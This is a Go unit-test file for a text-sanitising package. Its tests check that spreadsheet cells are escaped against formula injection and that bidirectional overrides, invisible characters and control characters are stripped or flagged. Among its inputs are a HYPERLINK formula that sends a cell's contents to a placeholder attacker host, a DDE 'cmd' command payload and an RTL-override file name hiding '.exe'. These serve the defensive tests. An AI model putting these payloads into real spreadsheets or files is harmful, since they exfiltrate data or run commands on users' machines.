package textsafe

import (
	"errors"
	"strings"
	"testing"
)

func TestCell(t *testing.T) {
	tests := []struct{ in, want string }{
		{`=HYPERLINK("http://evil.example/?"&A1,"点此查看")`, `'=HYPERLINK("http://evil.example/?"&A1,"点此查看")`},
		{"+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"},
		{"-2+3", "'-2+3"},
		{"@SUM(1,2)", "'@SUM(1,2)"},
		{"\t=1+1", "'\t=1+1"},
		{"\r=1+1", "'\n=1+1"},
		{"＝1+1", "'＝1+1"},
		{"\u202E=1+1", "'=1+1"}, // the override goes first, the formula is still caught
		{"东风村会计", "东风村会计"},
		{"a=b", "a=b"},
		{"报告\u202Efdp.exe", "报告fdp.exe"},
		{"第一行\r\n第二行\x00\x1b[31m", "第一行\n第二行[31m"},
		{"\u0085x\u009b", "x"},
		{"", ""},
	}
	for _, tt := range tests {
		if got := Cell(tt.in); got != tt.want {
			t.Errorf("Cell(%q) = %q; want %q", tt.in, got, tt.want)
		}
	}
}

func TestStrip(t *testing.T) {
	tests := []struct{ in, want string }{
		{"路灯坏了", "路灯坏了"},
		{"a\u202Ab\u202Bc\u202Cd\u202De\u202Ef", "abcdef"},
		{"a\u2066b\u2067c\u2068d\u2069e\u200Ef\u200Fg\u061Ch", "abcdefgh"},
		{"zero\u200Bwidth\u2060joiner\uFEFF", "zerowidthjoiner"},
		{"line\r\nbreak\rold mac\n", "line\nbreak\nold mac\n"},
		{"tab\tkept", "tab\tkept"},
		{"bell\a del\x7f c1\u0080\u009f", "bell del c1"},
		{"bad \xff utf8", "bad \uFFFD utf8"},
		{"家庭👨\u200D👩\u200D👧", "家庭👨\u200D👩\u200D👧"}, // the zero width joiner of emoji stays
	}
	for _, tt := range tests {
		got := Strip(tt.in)
		if got != tt.want {
			t.Errorf("Strip(%q) = %q; want %q", tt.in, got, tt.want)
		}
		if CheckText(got) != nil {
			t.Errorf("CheckText(Strip(%q)) = %v", tt.in, CheckText(got))
		}
	}
}

func TestCheck(t *testing.T) {
	tests := []struct {
		in         string
		text, line string // "" for accepted, else a part of the message
	}{
		{"新站镇", "", ""},
		{"第一行\n第二行\t缩进", "", "line break"},
		{"windows\r\nfile", "", "line break"},
		{"lone\rcr", "U+000D", "line break"},
		{"tab\there", "", "U+0009"},
		{"东风\u202E村", "U+202E (right-to-left override), at character 3", "U+202E"},
		{"x\u2067", "right-to-left isolate", "right-to-left isolate"},
		{"nul\x00", "U+0000 (control character)", "U+0000"},
		{"c1\u0085", "U+0085", "U+0085"},
		{"\u200F", "right-to-left mark", "right-to-left mark"},
		{"bad\xff", "not valid UTF-8", "not valid UTF-8"},
	}
	for _, tt := range tests {
		for _, c := range []struct {
			name string
			fn   func(string) error
			want string
		}{{"CheckText", CheckText, tt.text}, {"CheckLine", CheckLine, tt.line}} {
			err := c.fn(tt.in)
			switch {
			case c.want == "" && err != nil:
				t.Errorf("%s(%q) = %v; want nil", c.name, tt.in, err)
			case c.want != "" && (err == nil || !strings.Contains(err.Error(), c.want)):
				t.Errorf("%s(%q) = %v; want an error saying %q", c.name, tt.in, err, c.want)
			}
			var te *Error
			if err != nil && !errors.As(err, &te) {
				t.Errorf("%s(%q): %T is not *Error", c.name, tt.in, err)
			}
		}
	}
	if got := Lines("\uFEFFa\r\nb\r\n"); got != "a\nb\n" {
		t.Errorf("Lines = %q", got)
	}
}
